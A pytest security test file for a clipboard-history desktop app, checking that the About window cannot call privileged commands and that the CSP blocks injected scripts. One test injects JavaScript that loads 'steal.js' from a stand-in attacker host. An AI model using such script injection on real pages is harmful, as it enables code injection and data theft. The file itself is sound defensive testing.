"""A compromised page can do no more than its window's capability allows, and
the CSP keeps injected scripts from running at all."""

import pytest

from desktop import WebDriverError, wait_until


def test_about_cannot_reach_the_history_or_the_settings(webdriver, desktop, clipboard):
    driver = webdriver
    main = wait_until(lambda: driver.handle_titled("Trove"), what="main")
    clipboard.copy("kept safe from About")
    wait_until(lambda: driver.invoke("history_page", {"offset": 0, "limit": 10})["total"] == 1, what="the clip")
    settings_before = driver.invoke("get_settings")

    about = driver.open_from_tray(desktop.watcher.item_of(driver.pid), "About Trove", "About Trove")
    driver.switch(about)
    attempts = [
        ("history_page", {"offset": 0, "limit": 10}),
        ("search_history", {"query": {"text": "safe", "mode": "exact", "limit": 10}}),
        ("clear_history", {}),
        ("delete_clip", {"id": 0}),
        ("copy_clip", {"id": 0}),
        ("update_settings", {"settings": dict(settings_before, autostart=True)}),
        ("set_capture_paused", {"paused": True}),
        ("plugin:autostart|enable", {}),
    ]
    for command, args in attempts:
        with pytest.raises(WebDriverError, match="not allowed|not found|denied"):
            driver.invoke(command, args)
    assert driver.invoke("app_info")["name"] == "Trove", "what About is granted still works"

    driver.switch(main)
    assert [c["preview"] for c in driver.invoke("history_page", {"offset": 0, "limit": 10})["items"]] == \
        ["kept safe from About"]
    assert driver.invoke("get_settings") == settings_before
    assert driver.invoke("get_capture_state")["paused"] is False


INJECT = """
const done = arguments[arguments.length - 1];
const blocked = [];
document.addEventListener('securitypolicyviolation', (e) => {
  blocked.push(e.effectiveDirective);
  if (blocked.length === 2) done({ ran: window.__injected === true, blocked });
});
const inline = document.createElement('script');
inline.textContent = 'window.__injected = true';
document.body.append(inline);
const remote = document.createElement('script');
remote.src = 'https://attacker.example/steal.js';
document.body.append(remote);
"""


def test_the_csp_blocks_inline_and_remote_scripts(webdriver):
    driver = webdriver
    wait_until(lambda: driver.handle_titled("Trove"), what="main")
    result = driver.execute_async(INJECT)
    assert result["ran"] is False
    assert sorted(result["blocked"]) == ["script-src-elem", "script-src-elem"]
